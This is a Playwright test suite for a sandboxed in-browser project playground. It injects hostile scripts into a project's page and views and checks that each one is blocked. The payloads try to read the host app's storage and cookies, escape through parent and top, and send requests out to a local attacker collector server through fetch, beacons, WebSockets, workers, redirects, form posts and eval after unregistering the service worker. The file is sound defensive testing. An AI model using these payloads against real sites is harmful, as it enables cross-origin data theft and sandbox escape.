/**
 * Somebody else's project is safe to open. Each test puts one attack into a page of the project and looks at what
 * reached the app, or a server that the attacker owns.
 */
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { BrowserContext } from '@playwright/test'
import { expect, test as base, type Playground } from '../fixtures.ts'

/** A server of the attacker: remembers every path that was asked for. */
class Collector {
  readonly paths: string[] = []
  private constructor(
    private readonly server: Server,
    readonly origin: string,
  ) {}

  static async start(): Promise<Collector> {
    const server = createServer()
    await new Promise<void>((resolve) => server.listen(0, 'localhost', resolve))
    const { port } = server.address() as AddressInfo
    const collector = new Collector(server, `http://localhost:${port}`)
    server.on('request', (request, response) => {
      collector.paths.push(request.url ?? '')
      response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/html' })
      response.end('<h1>stolen</h1>')
    })
    return collector
  }

  /** Only the request of an ordinary tab has arrived, which proves that this browser can reach it. */
  async expectNothing(context: BrowserContext): Promise<void> {
    const tab = await context.newPage()
    await tab.goto(`${this.origin}/control`)
    await tab.close()
    expect(this.paths.filter((path) => path !== '/favicon.ico')).toEqual(['/control'])
  }

  stop(): void {
    this.server.closeAllConnections()
    this.server.close()
  }
}

const test = base.extend<{ collector: Collector }>({
  collector: async ({}, use) => {
    const collector = await Collector.start()
    await use(collector)
    collector.stop()
  },
})

/** Makes the start page run `script` (an async function's body); what it returns is shown by the page. */
async function attack(playground: Playground, script: string): Promise<string> {
  const page = `<p id="result">running</p><script>
    void (async () => { ${script} })()
      .catch((error) => 'refused: ' + error.name)
      .then((text) => { document.getElementById('result').textContent = 'result: ' + text })
  </script>`
  await playground.edit('templates/blog/post_list.html', () => page)
  const result = playground.preview.locator('#result')
  await expect(result).toHaveText(/^result: /)
  return (await result.textContent())?.replace('result: ', '') ?? ''
}

const settle = 'await new Promise((resolve) => setTimeout(resolve, 1000))'

test("it cannot read the app's page through parent", async ({ playground }) => {
  const result = await attack(
    playground,
    'return parent.parent.document.title + parent.parent.localStorage.length',
  )

  expect(result).toBe('refused: SecurityError')
})

test('it cannot send the window elsewhere through top', async ({ playground, collector }) => {
  const before = playground.page.url()

  const result = await attack(
    playground,
    `const named = []
     for (const leave of [() => { top.location = '${collector.origin}/top' }, () => { parent.location = '${collector.origin}/parent' }])
       try { leave(); named.push('done') } catch (error) { named.push(error.name) }
     ${settle}
     return named.join(' ')`,
  )

  expect(result).toBe('SecurityError SecurityError')
  expect(playground.page.url()).toBe(before)
  await collector.expectNothing(playground.page.context())
})

test("it finds nothing of the app's storage in its own", async ({ playground }) => {
  await playground.page.evaluate(async () => {
    localStorage.setItem('secret', 'of the app')
    document.cookie = 'secret=of-the-app'
    await caches.open('secret')
  })

  const result = await attack(
    playground,
    `const databases = await indexedDB.databases()
     return JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, await caches.keys(), databases])`,
  )

  expect(result).toMatch(/^\[\{.*\}/) // it could look, and this is all it found
  expect(result).not.toContain('secret')
  expect(result).not.toContain('roundtrip.project')
})

test('it cannot send anything to another port', async ({ playground, collector }) => {
  const result = await attack(
    playground,
    `const to = '${collector.origin}'
     const outcomes = await Promise.allSettled([
       fetch(to + '/fetch', { mode: 'no-cors' }),
       new Promise((ok, no) => { const image = new Image(); image.onload = ok; image.onerror = no; image.src = to + '/image' }),
       import(to + '/module.js'),
       new Promise((ok, no) => { const socket = new WebSocket(to.replace('http', 'ws') + '/socket'); socket.onopen = ok; socket.onerror = no }),
     ])
     navigator.sendBeacon(to + '/beacon', 'x')
     const frame = document.createElement('iframe')
     frame.src = to + '/frame'
     document.body.append(frame)
     ${settle}
     return outcomes.map((outcome) => outcome.status).join(' ')`,
  )

  expect(result).toBe('rejected rejected rejected rejected')
  await collector.expectNothing(playground.page.context())
})

test('its views, too, cannot send anything to another port', async ({ playground, collector }) => {
  const to = collector.origin
  const attempts = [
    `fetch('${to}/fetch', { mode: 'no-cors' }).catch(() => {})`,
    `const asked = new XMLHttpRequest(); asked.open('GET', '${to}/xhr', false); asked.send()`,
    `importScripts('${to}/script.js')`,
    `new WebSocket('${to.replace('http', 'ws')}/socket')`,
    `new Worker('${to}/worker.js')`,
    `navigator.sendBeacon('${to}/beacon', 'x')`,
  ]
  const each = attempts.map(
    (attempt) => `try { ${attempt}; tried.push('done') } catch (error) { tried.push(error.name) }`,
  )
  await playground.editAndReload('blog/views.ts', (text) =>
    text.replace(
      "return redirect('blog:post_list')",
      `const tried = []\n${each.join('\n')}\nreturn new JsonResponse({ tried })`,
    ),
  )
  await playground.send('/')

  const answer = playground.preview.locator('body')
  await expect(answer).toHaveText(/^\{"tried": \[("\w+"(, )?){6}\]\}$/) // each of them was tried
  await playground.page.waitForTimeout(1000) // time enough to arrive
  await collector.expectNothing(playground.page.context())
})

test('it cannot navigate itself away, and an edit brings the page back', async ({
  playground,
  collector,
}) => {
  const to = collector.origin
  const pages = [
    `<script>location.href = '${to}/location'</script>`,
    `<meta http-equiv="refresh" content="0; url=${to}/refresh">`,
    `<form method="post" action="${to}/form"></form><script>document.forms[0].submit()</script>`,
    `<a href="${to}/link">x</a><script>document.links[0].click()</script>`,
    `<script>open('${to}/open')</script>`,
  ]

  for (const [number, page] of pages.entries()) {
    const signal = `<img src="/ran/${number}">` // asked for by the page that attacks: it did run
    await playground.edit('templates/blog/post_list.html', () => signal + page)
    await expect(playground.request(new RegExp(`GET /ran/${number}, status 404`))).toBeVisible()
    await playground.page.waitForTimeout(1000) // time enough to leave
  }
  await playground.edit('templates/blog/post_list.html', () => '<h1>Still here</h1>')

  await expect(playground.heading('Still here')).toBeVisible()
  await collector.expectNothing(playground.page.context())
})

test('unregistering the service worker opens no way out', async ({ playground, collector }) => {
  const result = await attack(
    playground,
    `const registrations = await navigator.serviceWorker.getRegistrations()
     const gone = await Promise.all(registrations.map((registration) => registration.unregister()))
     const frame = document.createElement('iframe')
     frame.src = '/nope.html'
     document.body.append(frame)
     await new Promise((resolve) => { frame.onload = resolve })
     const outside = frame.contentWindow
     await outside.eval("fetch('${collector.origin}/unregistered', { mode: 'no-cors' }).catch(() => {})")
     outside.location.href = '${collector.origin}/unregistered-away'
     ${settle}
     return 'unregistered ' + gone.join()`,
  )

  expect(result).toBe('unregistered true')

  await collector.expectNothing(playground.page.context())
})
